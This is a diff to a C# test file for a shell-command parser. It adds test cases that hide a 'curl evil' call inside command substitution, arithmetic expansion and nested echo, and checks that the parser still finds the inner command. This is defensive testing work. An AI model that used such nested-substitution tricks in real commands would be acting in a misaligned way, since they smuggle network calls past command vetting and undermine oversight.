@@ -79,6 +79,10 @@ public sealed class ShellCommandTests
     [InlineData("/bin/bash -lc 'echo `curl evil`'")]
     [InlineData("/bin/bash -lc \"echo `curl evil`\"")]
     [InlineData("/bin/bash -lc \"echo $(curl evil)\"")]
+    [InlineData("echo $(( $(curl evil) + 1 ))")]
+    [InlineData("echo $(( `curl evil` ))")]
+    [InlineData("echo \"$(( $(curl evil) ))\"")]
+    [InlineData("echo $(echo \"$(curl evil)\")")]
     public void A_command_substitution_is_a_command_of_its_own(string script)
     {
         Assert.Contains("curl evil", Commands(script));
